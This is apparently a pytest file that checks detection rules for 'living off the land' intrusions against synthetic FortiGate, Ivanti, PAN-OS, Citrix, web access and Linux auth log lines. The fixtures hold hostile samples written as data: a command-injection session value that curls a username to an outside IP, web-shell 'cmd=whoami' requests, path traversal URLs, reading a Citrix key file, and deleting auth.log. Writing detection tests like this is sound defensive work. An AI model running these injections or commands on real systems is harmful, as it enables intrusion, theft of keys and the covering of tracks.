"""Shipped rules for logs of lines find what readers make of lines as devices write them."""

from __future__ import annotations

from importlib.resources import files
from pathlib import Path

import pytest

from tests.sources.lines.rule_hits import lines_hit

RULES = Path(str(files("yadorigi") / "content" / "packs" / "living_off_the_land" / "rules"))
FORTIGATE = 'date=2026-03-10 time=21:14:07 devname="fw1" devid="FGT60FTK00000001" tz="+0900" '
EVENT = FORTIGATE + 'logid="{}" type="event" subtype="system" level="notice" vd="root" '
WELF = 'id=firewall time="2026-03-10 07:44:1{}" pri=6 fw=192.0.2.1 vpn=VPN-1 user={} realm="" roles="" proto= '
GPSVC = (
    '{{"level":"error","task":"9-2{}","time":"2026-03-11T08:59:01.5-07:00",'
    '"message":"failed to unmarshal session({}) map , EOF"}}'
)
ACCESS = '203.0.113.9 - - [11/Mar/2026:09:00:0{} +0900] "{} HTTP/1.1" {} 118 "-" "Mozilla/5.0"'
NETSCALER = "<134> 06/22/2025:19:14:3{} GMT ns1 0-PPE-1 : default {} "
SSHD = "Mar 11 09:00:0{} web01 {}: {}"

LOGS = {
    "fortigate.log": [
        EVENT.format("0100032546") + 'logdesc="Application crashed" action="crash" msg="Pid: 00812, application: '
        'sslvpnd, Firmware: FortiGate-100F v7.2.2, Signal 11 received, Backtrace: [0x01546dd0]"',
        EVENT.format("0100044547") + 'user="Local_Process_Access" ui="Node.js" action="Edit" cfgpath="system.admin"',
        EVENT.format("0100032001") + 'user="admin" ui="jsconsole" srcip=127.0.0.1 dstip=127.0.0.1 action="login" '
        'status="success" msg="Administrator admin logged in"',
        EVENT.format("0100032095") + 'user="admin" ui="GUI(203.0.113.7)" action="download" msg="System config file has '
        'been downloaded by user admin via GUI(203.0.113.7)"',
        EVENT.format("0100032001") + 'user="admin" ui="https(203.0.113.7)" srcip=203.0.113.7 dstip=192.0.2.1 '
        'action="login" status="success"',
    ],
    "ivanti.log": [
        WELF.format(1, "System") + 'src=192.0.2.1 msg="SYS32039: Integrity Scan Completed: Detected 2 new files"',
        WELF.format(2, "System") + 'src=198.51.100.4 msg="AUT31556: Unauthenticated request url '
        '/api/v1/totp/user-backup-code/../../system/x came from IP 198.51.100.4."',
        WELF.format(3, "admin") + 'src=192.0.2.7 msg="ADM20599: Log cleared"',
        WELF.format(4, "admin") + "src=192.0.2.7 msg=\"ADM20716: Added user 'x' to authentication server 'System'.\"",
        WELF.format(5, "admin") + 'src=203.0.113.7 msg="ADM22668: Login succeeded for admin/Admin Users from IP '
        '203.0.113.7 via 443 port."',
    ],
    "gpsvc.log": [
        GPSVC.format(1, "01234567-89ab-cdef-0123-456789abcdef"),
        GPSVC.format(2, "test"),
        GPSVC.format(3, "/../../../../opt/panlogs/tmp/device_telemetry/minute/a`curl${IFS}198.51.100.23?u=$(whoami)`"),
        GPSVC.format(4, "./../../../var/appweb/x.css"),
    ],
    "ns.log": [
        NETSCALER.format(7, "CLI CMD_EXECUTED 1006 0")
        + ':  User nsroot - ADM_User NONE - Remote_ip 192.0.2.7 - Command "add system user x" - Status "Success"',
        '<189>Jun 22 19:22:00 ns1 bash[4711]: nobody on (null) shell_command="whoami"',
        '<189>Jun 22 19:22:01 ns1 bash[4711]: root on (null) shell_command="cat /flash/nsconfig/keys/updated/F1.key"',
    ],
    "access.log": [
        ACCESS.format(1, "POST /./RestAPI/LogonCustomization", 200),
        ACCESS.format(2, "GET /uploads/a.php?cmd=whoami", 200),
        ACCESS.format(3, "POST /images/logo.jsp", 200),
        ACCESS.format(4, "POST /reports/AuditReport.jspx", 404),
        ACCESS.format(5, "POST /reports/AuditReport.jspx", 200),
        ACCESS.format(6, "POST /vpn/themes/.theme.php", 200),
    ],
    "auth.log": [
        SSHD.format(1, "useradd[1400]", "new user: name=svc, UID=1005, GID=1005, home=/home/svc, shell=/bin/bash"),
        SSHD.format(2, "usermod[1402]", "add 'svc' to group 'sudo'"),
        SSHD.format(3, "sudo", "deploy : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/auth.log"),
    ],
}
FOUND = {
    "fortigate.log": {
        "fortigate_sslvpnd_crash": [1],
        "fortigate_local_process_access": [2],
        "fortigate_account_changed": [2],
        "fortigate_console_login_odd_address": [3],
        "fortigate_configuration_copied": [4],
        "appliance_administered_from_internet": [5],
    },
    "ivanti.log": {
        "ivanti_integrity_mismatch": [1],
        "ivanti_path_traversal": [2],
        "ivanti_logs_cleared": [3],
        "ivanti_account_changed": [4],
        "appliance_administered_from_internet": [5],
    },
    "gpsvc.log": {
        "panos_session_no_guid": [2, 3, 4],
        "panos_session_path": [3, 4],
        "panos_session_command": [3],
    },
    "ns.log": {
        "citrix_account_changed": [1],
        "citrix_question_in_shell": [2],
        "citrix_shell_command": [3],
    },
    "access.log": {
        "adselfservice_login_bypassed": [1],
        "adselfservice_api_request": [1],
        "web_shell_command_in_address": [2],
        "web_script_posted_in_odd_folder": [3],
        "web_shell_known_name": [5, 6],
        "citrix_odd_script_requested": [6],
    },
    "auth.log": {
        "linux_account_made": [1],
        "linux_member_of_administrators": [2],
        "linux_logs_removed_command": [3],
    },
}


@pytest.mark.parametrize(("name", "rule"), [(name, rule) for name, own in FOUND.items() for rule in own])
def test_lines_are_found(name: str, rule: str, tmp_path: Path) -> None:
    text = "\n".join(LOGS[name]) + "\n"
    assert lines_hit((RULES / f"{rule}.yml").read_text("utf-8"), tmp_path / name, text) == FOUND[name][rule]
